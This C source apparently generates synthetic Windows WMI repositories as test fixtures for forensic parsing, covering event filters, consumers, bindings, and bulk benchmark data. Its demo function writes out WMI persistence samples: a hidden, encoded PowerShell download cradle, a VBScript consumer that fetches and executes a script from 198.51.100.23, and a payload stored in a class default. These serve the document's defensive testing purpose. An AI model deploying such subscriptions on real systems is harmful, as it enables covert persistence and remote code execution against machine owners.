    static const char *const reent[] = {"CLSID", "Namespace", "COM Object"};
    cimgen_prop_qual(m, PD(m, c, "InitializationReentrancy", CIMGEN_SINT32, cimgen_int(0)), "Values",
                     cimgen_strs(reent, 3), 2);
    PD(m, c, "PerUserInitialization", CIMGEN_BOOLEAN, cimgen_bool(false));
    PD(m, c, "PerLocaleInitialization", CIMGEN_BOOLEAN, cimgen_bool(false));
    PD(m, c, "Pure", CIMGEN_BOOLEAN, cimgen_bool(true));
    P(m, c, "HostingModel", CIMGEN_STRING);
    P(m, c, "Concurrency", CIMGEN_SINT32);
    static const char *const b1[] = {"SupportsSendStatus", "SupportsExplicitShutdown", "SupportsExtendedStatus",
                                     "SupportsThrottling"};
    for (size_t i = 0; i < NSIZE(b1); i++) P(m, c, b1[i], CIMGEN_BOOLEAN);
    cimgen_prop_qual(m, P(m, c, "OperationTimeoutInterval", CIMGEN_DATETIME), "SUBTYPE", cimgen_str("interval"), 3);
    cimgen_prop_qual(m, P(m, c, "InitializationTimeoutInterval", CIMGEN_DATETIME), "SUBTYPE",
                     cimgen_str("interval"), 3);
    P(m, c, "SupportsQuotas", CIMGEN_BOOLEAN);
    P(m, c, "Enabled", CIMGEN_BOOLEAN);
    P(m, c, "SupportsShutdown", CIMGEN_BOOLEAN);
    P(m, c, "SecurityDescriptor", CIMGEN_STRING);

    c = cimgen_class_add(m, sc, "__IndicationRelated", "__SystemClass", t + 17);
    cimgen_class_qual(m, c, "abstract", cimgen_bool(true), 0);

    c = cimgen_class_add(m, sc, "__EventFilter", "__IndicationRelated", cimgen_preset_time);
    cimgen_prop_add(m, c, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
    creator_sid(m, c);
    P(m, c, "QueryLanguage", CIMGEN_STRING);
    P(m, c, "Query", CIMGEN_STRING);
    P(m, c, "EventNamespace", CIMGEN_STRING);
    P(m, c, "EventAccess", CIMGEN_STRING);

    c = cimgen_class_add(m, sc, "__EventConsumer", "__IndicationRelated", cimgen_preset_time - 1);
    cimgen_class_qual(m, c, "abstract", cimgen_bool(true), 0);
    P(m, c, "MachineName", CIMGEN_STRING);
    cimgen_prop_qual(m, P(m, c, "MaximumQueueSize", CIMGEN_UINT32), "units", cimgen_str("bytes"), 0x13);
    creator_sid(m, c);

    c = cimgen_class_add(m, sc, "__FilterToConsumerBinding", "__IndicationRelated", cimgen_preset_time + 2);
    cimgen_class_qual(m, c, "Association", cimgen_bool(true), 0x13);
    cimgen_ref_add(m, c, "Filter", "__EventFilter", CIMGEN_KEY);
    cimgen_ref_add(m, c, "Consumer", "__EventConsumer", CIMGEN_KEY);
    P(m, c, "DeliveryQoS", CIMGEN_UINT32);
    cimgen_prop_qual(m, PD(m, c, "DeliverSynchronously", CIMGEN_BOOLEAN, cimgen_bool(false)), "not_null",
                     cimgen_bool(true), 0x13);
    PD(m, c, "MaintainSecurityContext", CIMGEN_BOOLEAN, cimgen_bool(false));
    PD(m, c, "SlowDownProviders", CIMGEN_BOOLEAN, cimgen_bool(false));
    creator_sid(m, c);

    cimgen_namespace(m, "root\\subscription");
    cimgen_namespace(m, "root\\cimv2");
    cimgen_namespace(m, "root\\default");
    // Consumer classes: NTEventLog at ...572510, ActiveScript at ...572512.
    uint64_t ct = cimgen_preset_time + 1320;
    consumer_classes(m, "root\\subscription", ct);
    consumer_classes(m, "root\\default", ct + 400);
    consumer_providers(m, "root\\subscription", ct + 30);

    // The SCM Event Log triple every Windows has (EXPECTED.md §7).
    uint64_t ts = cimgen_preset_time + 1430; // ...572521
    cimgen_kv kv[] = {
        {"SourceName", cimgen_str("Service Control Manager")},
        {"EventType", cimgen_uint(1)},
        {"Category", cimgen_uint(0)},
        {"NameOfUserSIDProperty", cimgen_str("sid")},
        {"CreatorSID", cimgen_ints(SID_ADMINS, NSIZE(SID_ADMINS))},
    };
    cimgen_inst *b = cimgen_add_subscription(m, "root\\subscription", "SCM Event Log Filter",
                                             "select * from MSFT_SCMEventLogEvent", "NTEventLogEventConsumer",
                                             "SCM Event Log Consumer", kv, NSIZE(kv), ts);
    (void)b;
}

/* Reference path text with quotes and backslashes escaped. */
static void path_of(char *out, size_t n, const char *cls, const char *name)
{
    size_t k = (size_t)snprintf(out, n, "%s.Name=\"", cls);
    for (const char *p = name; *p && k + 3 < n; p++) {
        if (*p == '"' || *p == '\\') out[k++] = '\\';
        out[k++] = *p;
    }
    if (k + 2 <= n) {
        out[k++] = '"';
        out[k] = 0;
    }
}

cimgen_inst *cimgen_add_subscription(cimgen_model *m, const char *ns, const char *filter_name, const char *query,
                                     const char *consumer_class, const char *consumer_name, const cimgen_kv *props,
                                     size_t nprops, uint64_t ts)
{
    cimgen_val admins = cimgen_ints(SID_ADMINS, NSIZE(SID_ADMINS));
    cimgen_inst *f = cimgen_instance_add(m, ns, "__EventFilter", ts);
    cimgen_set(m, f, "Name", cimgen_str(filter_name));
    cimgen_set(m, f, "CreatorSID", admins);
    cimgen_set(m, f, "QueryLanguage", cimgen_str("WQL"));
    cimgen_set(m, f, "Query", cimgen_str(query));
    cimgen_set(m, f, "EventNamespace", cimgen_str("root\\cimv2"));
    cimgen_inst *c = cimgen_instance_add(m, ns, consumer_class, ts);
    cimgen_set(m, c, "Name", cimgen_str(consumer_name));
    cimgen_set(m, c, "CreatorSID", admins);
    for (size_t i = 0; i < nprops; i++) cimgen_set(m, c, props[i].name, props[i].v);
    cimgen_inst *b = cimgen_instance_add(m, ns, "__FilterToConsumerBinding", ts);
    char fp[1024], cp[1024];
    path_of(fp, sizeof(fp), "__EventFilter", filter_name);
    path_of(cp, sizeof(cp), consumer_class, consumer_name);
    cimgen_set(m, b, "Filter", cimgen_str(fp));
    cimgen_set(m, b, "Consumer", cimgen_str(cp));
    cimgen_set(m, b, "CreatorSID", admins);
    return b;
}

static void base64(const uint8_t *p, size_t n, char *out)
{
    static const char t[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t k = 0;
    for (size_t i = 0; i < n; i += 3) {
        uint32_t v = (uint32_t)p[i] << 16 | (i + 1 < n ? (uint32_t)p[i + 1] << 8 : 0) | (i + 2 < n ? p[i + 2] : 0);
        out[k++] = t[v >> 18 & 63];
        out[k++] = t[v >> 12 & 63];
        out[k++] = i + 1 < n ? t[v >> 6 & 63] : '=';
        out[k++] = i + 2 < n ? t[v & 63] : '=';
    }
    out[k] = 0;
}

void cimgen_demo(cimgen_model *m)
{
    cimgen_windows_defaults(m);
    // An encoded PowerShell download cradle (-Enc takes UTF-16LE base64).
    const char *cradle = CIMGEN_DEMO_CMD_ENCODED;
    size_t n = strlen(cradle);
    uint8_t *u = xmalloc(2 * n);
    for (size_t i = 0; i < n; i++) {
        u[2 * i] = (uint8_t)cradle[i];
        u[2 * i + 1] = 0;
    }
    char *b64 = xmalloc(4 * n + 8);
    base64(u, 2 * n, b64);
    char *cmd = xmalloc(4 * n + 128);
    snprintf(cmd, 4 * n + 128, "powershell.exe -NoP -NonI -W Hidden -Enc %s", b64);
    static const int64_t sid_user[] = {1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0, 0x39, 0x30, 0x1A, 0x6B,
                                       0x8A, 0x42, 0xD1, 0x2E, 0x77, 0xC9, 0x05, 0x51, 0xE9, 0x03, 0, 0};
    uint64_t t1 = cimgen_filetime(2024, 3, 14, 2, 13, 37, 424242);
    cimgen_kv cl[] = {
        {"CommandLineTemplate", cimgen_str(cmd)},
        {"WorkingDirectory", cimgen_str("C:\\Users\\Jos\xC3\xA9\\AppData\\Local\\Temp")},
        {"RunInteractively", cimgen_bool(false)},
        {"CreatorSID", cimgen_ints(sid_user, NSIZE(sid_user))},
    };
    cimgen_add_subscription(m, "root\\subscription", CIMGEN_DEMO_CMD_FILTER,
                            "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                            "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 240 AND "
                            "TargetInstance.SystemUpTime < 325",
                            "CommandLineEventConsumer", CIMGEN_DEMO_CMD_CONSUMER, cl, NSIZE(cl), t1);
    free(u);
    free(b64);
    free(cmd);

    uint64_t t2 = cimgen_filetime(2024, 3, 14, 2, 19, 5, 10203);
    const char *script =
        "' \xD0\x9F\xD1\x80\xD0\xB8\xD0\xB2\xD0\xB5\xD1\x82 \xE2\x80\x94 logon helper\r\n"
        "Set x = CreateObject(\"MSXML2.ServerXMLHTTP\")\r\n"
        "x.Open \"GET\", \"http://198.51.100.23/s.vbs\", False\r\n"
        "x.Send\r\n"
        "Execute x.responseText\r\n";
    cimgen_kv as[] = {
        {"ScriptingEngine", cimgen_str("VBScript")},
        {"ScriptText", cimgen_str(script)},
        {"KillTimeout", cimgen_uint(45)},
    };
    cimgen_add_subscription(m, CIMGEN_DEMO_AS_NS, CIMGEN_DEMO_AS_FILTER,
                            "SELECT * FROM __InstanceCreationEvent WITHIN 15 WHERE TargetInstance ISA "
                            "'Win32_LogonSession'",
                            "ActiveScriptEventConsumer", CIMGEN_DEMO_AS_CONSUMER, as, NSIZE(as), t2);

    // A payload parked in a class default, as WMI-resident malware does
    // (flare-wmi "wmikatz"): big enough to continue over several pages.
    uint64_t rng = 0xC0FFEEull;
    size_t plen = 3 * 7000;
    uint8_t *raw = xmalloc(plen);
    for (size_t i = 0; i < plen; i++) raw[i] = (uint8_t)(rnd(&rng) >> 56);
    char *payload = xmalloc(4 * plen / 3 + 8);
    base64(raw, plen, payload);
    cimgen_class *c = cimgen_class_add(m, "root\\cimv2", "Win32_AuditCode", NULL, t1 - 600000000ull);
    cimgen_prop_add(m, c, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
    cimgen_val pv = cimgen_str(payload);
    cimgen_prop_add(m, c, "Code", CIMGEN_STRING, 0, &pv);
    free(raw);
    free(payload);
}

void cimgen_hostile(cimgen_model *m)
{
    cimgen_windows_defaults(m);
    size_t n = strlen(CIMGEN_HOSTILE_CMD);
    char *cmd = xmalloc(n + CIMGEN_HOSTILE_BIG + 1);
    memcpy(cmd, CIMGEN_HOSTILE_CMD, n);
    memset(cmd + n, 'A', CIMGEN_HOSTILE_BIG);
    cmd[n + CIMGEN_HOSTILE_BIG] = 0;
    cimgen_kv cl[] = {{"CommandLineTemplate", cimgen_str(cmd)}};
    cimgen_add_subscription(m, "root\\subscription", "hostile filter",
                            "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'",
                            "CommandLineEventConsumer", CIMGEN_HOSTILE_NAME, cl, NSIZE(cl),
                            cimgen_filetime(2024, 3, 14, 3, 0, 0, 0));
    free(cmd);
}

void cimgen_demo_delete(cimgen_model *m)
{
    const char *ns = CIMGEN_DEMO_AS_NS;
    cimgen_delete_instance(cimgen_find_instance(m, ns, "__EventFilter", "Name", CIMGEN_DEMO_AS_FILTER),
                           CIMGEN_DEL_OLDMAP);
    cimgen_delete_instance(cimgen_find_instance(m, ns, "ActiveScriptEventConsumer", "Name", CIMGEN_DEMO_AS_CONSUMER),
                           CIMGEN_DEL_UNALLOC);
    for (size_t i = 0; i < m->ninst; i++) {
        cimgen_inst *in = m->inst[i];
        const cimgen_val *f = cimgen_get(in, "Filter");
        if (ci_cmp(in->ns->path, ns) == 0 && ci_cmp(in->class_name, "__FilterToConsumerBinding") == 0 && f &&
            f->kind == CIMGEN_K_STR && strstr(f->s, CIMGEN_DEMO_AS_FILTER))
            cimgen_delete_instance(in, CIMGEN_DEL_SLACK);
    }
}

/* Sets a string value without copying it (bulk data shares a pool). */
static void set_shared(cimgen_model *m, cimgen_inst *in, const char *prop, const char *s)
{
    grow(&in->set, &in->setcap, in->nset + 1, sizeof(*in->set));
    in->set[in->nset++] = (cimgen_setval){prop, cimgen_str(s)};
    m->finalized = false;
}

void cimgen_bulk(cimgen_model *m, uint64_t bytes, uint64_t seed)
{
    uint64_t rng = seed * 0x9E3779B97F4A7C15ull + 77;
    enum { NPOOL = 64, NNS = 12, NCLS = 24 };
    static const char words[] = "lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod "
                                "tempor incididunt ut labore et dolore magna aliqua ";
    // Shared strings of 300..1800 bytes, some with non-ASCII text.
    const char *pool[NPOOL];
    for (size_t i = 0; i < NPOOL; i++) {
        size_t len = 300 + (size_t)(rnd(&rng) % 1500);
        char *s = aalloc(m, len + 16);
        size_t k = 0;
        while (k < len) {
            size_t w = (size_t)(rnd(&rng) % (sizeof(words) - 1));
            s[k++] = words[w];
        }
        s[k] = 0;
        if (i % 8 == 3) memcpy(s, "\xC3\xA9t\xC3\xA9 ", 7); // Latin-1 text
        pool[i] = s;
    }
    const char *names[NNS * NCLS];
    uint64_t t = cimgen_filetime(2023, 6, 1, 8, 0, 0, 0);
    size_t ncls = 0;
    for (int ns = 0; ns < NNS; ns++) {
        char nsp[64];
        snprintf(nsp, sizeof(nsp), "root\\bench\\Ns%02d", ns);
        char bn[64];
        snprintf(bn, sizeof(bn), "Bench_Base%02d", ns);
        if (cimgen_find_class(m, nsp, bn)) { // a second call adds instances only
            for (int k = 0; k < NCLS; k++) {
                char cn[64];
                snprintf(cn, sizeof(cn), "Bench_Item%02d_%02d", ns, k);
                names[ncls++] = cimgen_find_class(m, nsp, cn)->name;
            }
            continue;
        }
        cimgen_class *base = cimgen_class_add(m, nsp, bn, NULL, t + (uint64_t)ns);
        cimgen_prop_add(m, base, "Name", CIMGEN_STRING, CIMGEN_KEY, NULL);
        cimgen_prop_add(m, base, "Id", CIMGEN_UINT32, CIMGEN_KEY, NULL);
        cimgen_val d = cimgen_bool(true);
        cimgen_prop_add(m, base, "Enabled", CIMGEN_BOOLEAN, 0, &d);
        for (int k = 0; k < NCLS; k++) {
            char cn[64];
            snprintf(cn, sizeof(cn), "Bench_Item%02d_%02d", ns, k);
            cimgen_class *c = cimgen_class_add(m, nsp, cn, bn, t + 100 + (uint64_t)k);
            cimgen_prop_add(m, c, "Description", CIMGEN_STRING, 0, NULL);
            cimgen_prop_add(m, c, "Size", CIMGEN_UINT64, 0, NULL);
            cimgen_prop_add(m, c, "Ratio", CIMGEN_REAL64, 0, NULL);
            cimgen_prop_add(m, c, "Installed", CIMGEN_DATETIME, 0, NULL);
            cimgen_prop_add(m, c, "Tags", CIMGEN_STRING | CIMGEN_ARRAY, 0, NULL);
            names[ncls++] = c->name;
        }
    }
    static const char *const tags[] = {"alpha", "beta", "gamma"};
    uint64_t total = 0;
    uint32_t id = (uint32_t)m->ninst; // unique across calls
    while (total < bytes) {
        size_t ci = (size_t)(rnd(&rng) % ncls);
        char nsp[64];
        snprintf(nsp, sizeof(nsp), "root\\bench\\Ns%02d", (int)(ci / NCLS));
        cimgen_inst *in = cimgen_instance_add(m, nsp, names[ci], t + 1000000 + id);
        char nm[32];
        snprintf(nm, sizeof(nm), "item-%u", id);
        cimgen_set(m, in, "Name", cimgen_str(nm));
        cimgen_set(m, in, "Id", cimgen_uint(id));
        const char *desc = pool[rnd(&rng) % NPOOL];
        set_shared(m, in, "Description", desc);
        cimgen_set(m, in, "Size", cimgen_uint(rnd(&rng) >> 20));
        cimgen_set(m, in, "Ratio", cimgen_real((double)(id % 1000) / 7.0));
        set_shared(m, in, "Installed", "20230601080000.000000+000");
        cimgen_set(m, in, "Tags", cimgen_strs(tags, 1 + id % 3));
        // Record: hash 128 + header ~40 + table ~50 + heap (name, strings).
        total += 128 + 40 + 60 + 40 + strlen(desc) + 28 + 20;
        id++;
    }
}
